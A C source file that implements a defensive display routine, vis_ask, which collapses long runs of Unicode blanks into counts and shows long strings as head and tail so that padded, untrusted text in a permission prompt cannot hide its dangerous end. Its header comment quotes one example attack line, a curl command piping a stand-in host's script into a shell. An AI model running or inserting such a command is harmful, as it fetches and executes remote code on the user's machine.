// SPDX-License-Identifier: ISC
/*
 * A string from a sandbox or a client as a question shows it to the
 * person who answers (vis.h, vis_ask).  untrusted: every byte.  Escaping
 * alone is not enough there: 4,000 spaces (or no-break spaces, or tabs)
 * and then "; curl evil | sh" push the part that matters off the screen,
 * and the person sees only the harmless start above "allow?".  So a run
 * of blanks is written as its count, and a long string as its head and
 * its tail with the count of what is between: both ends are always on
 * the screen, and nothing is left out without saying so.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/vis.h"
#include "common/xmalloc.h"

/* Runs of more blanks than this are written as a count. */
#define VA_BLANKS	4

/* Whether the character at s (n bytes left) is a blank, and its length:
 * space, tab, and Unicode's spaces (no-break, en, em, thin, ideographic,
 * ...) and the braille blank, which fonts draw as a space.  The zero-width ones are vis()'s <U+XXXX> already. */
static size_t
va_blank(const unsigned char *s, size_t n)
{
	uint32_t	cp;
	size_t		len;

	if (s[0] == ' ' || s[0] == '\t')
		return 1;
	if (s[0] < 0x80 || (len = vis_utf8(s, n, &cp)) == 0)
		return 0;
	if (cp == 0x00a0 || cp == 0x1680 || (cp >= 0x2000 && cp <= 0x200a) ||
	    cp == 0x202f || cp == 0x205f || cp == 0x2800 || cp == 0x3000)
		return len;
	return 0;
}

/* The length of the one character (or undecodable byte) at s. */
static size_t
va_char(const unsigned char *s, size_t n)
{
	uint32_t	cp;
	size_t		len;

	if (s[0] < 0x80 || (len = vis_utf8(s, n, &cp)) == 0)
		return 1;
	return len;
}

struct va_out {
	char	*b;
	size_t	 len, cap;
	size_t	*unit;		/* where each shown unit starts */
	size_t	 nunit, capunit;
};

static void
va_put(struct va_out *o, const char *s, size_t n)
{
	if (o->nunit == o->capunit) {
		o->capunit = o->capunit ? o->capunit * 2 : 256;
		o->unit = xreallocarray(o->unit, o->capunit,
		    sizeof(*o->unit));
	}
	o->unit[o->nunit++] = o->len;
	if (o->len + n + 1 > o->cap) {
		o->cap = (o->len + n + 1) * 2;
		o->b = xreallocarray(o->b, o->cap, 1);
	}
	memcpy(o->b + o->len, s, n);
	o->len += n;
	o->b[o->len] = '\0';
}

char *
vis_ask(const char *src, size_t max, int *cut)
{
	const unsigned char *s = (const unsigned char *)(src ? src : "-");
	struct va_out	 o = { NULL, 0, 0, NULL, 0, 0 };
	char		 tmp[64], esc[VIS_MAX_GROWTH * 4 + 1], *r;
	size_t		 n = strlen((const char *)s), i = 0, k, run, bytes;
	size_t		 head, tail, h, t;

	if (cut != NULL)
		*cut = 0;
	while (i < n) {
		/* A run of blanks: counted, its own bytes if short. */
		for (k = i, run = 0; k < n && (bytes = va_blank(s + k,
		    n - k)) > 0; k += bytes)
			run++;
		if (run > VA_BLANKS) {
			snprintf(tmp, sizeof(tmp), "<%zu blanks>", run);
			va_put(&o, tmp, strlen(tmp));
			i = k;
			continue;
		}
		bytes = va_char(s + i, n - i);
		(void)vis_n(esc, sizeof(esc), (const char *)s + i, bytes, 0);
		va_put(&o, esc, strlen(esc));
		i += bytes;
	}
	if (o.b == NULL)
		o.b = xstrdup("");
	if (max == 0 || o.len <= max) {
		free(o.unit);
		return o.b;
	}
	/* Head and tail, cut between shown units, never inside one. */
	head = max / 2;
	tail = max - head;
	for (h = 0; h < o.nunit && o.unit[h] <= head; h++)
		;
	h = h > 0 ? o.unit[h - 1] : 0;
	for (t = o.nunit; t > 0 && o.len - o.unit[t - 1] <= tail; t--)
		;
	t = t < o.nunit ? o.unit[t] : o.len;
	if (t < h)
		t = h;
	snprintf(tmp, sizeof(tmp), " <... %zu bytes more, answer v to see "
	    "all ...> ", t - h);
	xasprintf(&r, "%.*s%s%s", (int)h, o.b, tmp, o.b + t);
	free(o.b);
	free(o.unit);
	if (cut != NULL)
		*cut = 1;
	return r;
}
